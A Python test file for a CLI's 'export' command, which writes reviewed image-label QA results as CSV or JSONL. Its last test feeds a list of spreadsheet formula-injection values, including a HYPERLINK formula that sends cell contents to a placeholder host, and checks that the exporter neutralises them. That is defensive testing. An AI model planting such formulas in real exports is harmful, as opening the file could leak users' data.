"""``bulkqa export``: one row per reviewed image, outcome under the policy, --only, csv/jsonl."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from typer.testing import CliRunner

from bulkqa.cli import app

RESULTS = Path(__file__).resolve().parents[2] / "fixtures" / "qa_results.csv"


def export(*args: str) -> tuple[str, str]:
    result = CliRunner().invoke(app, ["export", "--input", str(RESULTS), *args])
    assert result.exit_code == 0, result.output
    return result.stdout, result.stderr


def test_export_csv_has_every_reviewed_image() -> None:
    out, err = export()
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == ["image", "label", "confidence", "outcome", "WorkerConfirmCount", "WorkerDisconfirmCount"]
    assert len(rows) == 28  # 31 images, 3 unreviewed
    assert "s3://bulkqa-demo/dog/016.jpg" not in out
    dog8 = next(r for r in rows if r["image"].endswith("dog/008.jpg"))
    assert (dog8["label"], dog8["confidence"], dog8["outcome"]) == ("Dog", "93.0", "split")
    assert (dog8["WorkerConfirmCount"], dog8["WorkerDisconfirmCount"]) == ("2", "1")
    assert "28 exported" in err


def test_export_only_confirmed_and_disconfirmed() -> None:
    confirmed = list(csv.DictReader(io.StringIO(export("--only", "confirmed")[0])))
    assert len(confirmed) == 23 and {r["outcome"] for r in confirmed} == {"confirmed"}
    disconfirmed = list(csv.DictReader(io.StringIO(export("--only", "disconfirmed")[0])))
    assert sorted(r["image"].rsplit("/", 2)[-2] + "/" + r["image"].rsplit("/", 1)[-1] for r in disconfirmed) == [
        "cat/003.jpg",
        "dog/012.jpg",
        "dog/014.jpg",
    ]


def test_export_majority_jsonl_to_file(tmp_path: Path) -> None:
    out = tmp_path / "labels.jsonl"
    export("--policy", "majority", "--format", "jsonl", "--out", str(out))
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(rows) == 28
    by_image = {r["image"].split("bulkqa-demo/")[1]: r for r in rows}
    assert by_image["dog/008.jpg"]["outcome"] == "confirmed"  # 2-1
    assert by_image["cat/006.jpg"] == {
        "image": "s3://bulkqa-demo/cat/006.jpg",
        "label": "Cat",
        "confidence": 82.0,
        "outcome": "tie",
        "WorkerConfirmCount": 1,
        "WorkerDisconfirmCount": 1,
    }


def test_export_needs_a_source() -> None:
    result = CliRunner().invoke(app, ["export"])
    assert result.exit_code == 2


def test_export_rows_are_sorted_by_label_then_image(tmp_path: Path) -> None:
    import random

    rows = [f"s3://b/{i:03d}.jpg,{label},{80 + i % 20},1,{i % 2}" for i in range(60) for label in ("Dog", "Cat")]
    random.Random(7).shuffle(rows)
    path = tmp_path / "shuffled.csv"
    path.write_text("image,label,confidence,WorkerConfirmCount,WorkerDisconfirmCount\n" + "\n".join(rows) + "\n")
    first = CliRunner().invoke(app, ["export", "--input", str(path)])
    assert first.exit_code == 0, first.output
    exported = [(r["label"], r["image"]) for r in csv.DictReader(io.StringIO(first.stdout))]
    assert exported == sorted(exported) and len(exported) == 120
    path.write_text(
        "image,label,confidence,WorkerConfirmCount,WorkerDisconfirmCount\n" + "\n".join(sorted(rows)) + "\n"
    )
    assert CliRunner().invoke(app, ["export", "--input", str(path)]).stdout == first.stdout


def test_export_table_order_is_the_same_whatever_the_scan_order(qa_stack) -> None:
    items = [
        {
            "PutRequest": {
                "Item": {
                    "s3_image_url": {"S": f"s3://b/{i:03d}.jpg"},
                    "label": {"S": f"L{i % 5}"},
                    "confidence": {"N": "90"},
                    "WorkerConfirmCount": {"N": "1"},
                    "WorkerDisconfirmCount": {"N": "0"},
                }
            }
        }
        for i in range(100)
    ]
    for start in range(0, 100, 25):
        qa_stack.ddb.batch_write_item(RequestItems={qa_stack.table: items[start : start + 25]})
    outputs = {
        CliRunner().invoke(app, ["export", "--table", qa_stack.table, "--segments", str(n)]).stdout for n in (1, 3, 7)
    }
    assert len(outputs) == 1
    rows = [(r["label"], r["image"]) for r in csv.DictReader(io.StringIO(outputs.pop()))]
    assert rows == sorted(rows) and len(rows) == 100


HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1"]


def test_export_csv_neutralises_formula_injection(tmp_path: Path) -> None:
    from bulkqa.csv_safety import restore_cell

    lines = ["image,label,confidence,WorkerConfirmCount,WorkerDisconfirmCount"]
    for i, text in enumerate(HOSTILE):
        lines.append(f'"{text.replace(chr(34), chr(34) * 2)}",L{i},90,1,0')  # hostile image path
        lines.append(f's3://b/{i}.jpg,"{text.replace(chr(34), chr(34) * 2)}x",90,1,0')  # hostile label
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n")
    result = CliRunner().invoke(app, ["export", "--input", str(path)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row[:2]]
    trigger = set("=+-@\t\r＝")
    for cell in cells:
        assert cell.lstrip(" ")[:1] not in trigger, repr(cell)
    restored = {restore_cell(c) for c in cells}
    # Labels and paths are stripped when read (a leading space or tab is not kept), then protected.
    assert {t.strip() for t in HOSTILE} <= restored
    as_json = CliRunner().invoke(app, ["export", "--input", str(path), "--format", "jsonl"]).stdout
    assert '"+1+1"' in as_json  # JSON lines are data, written as they are
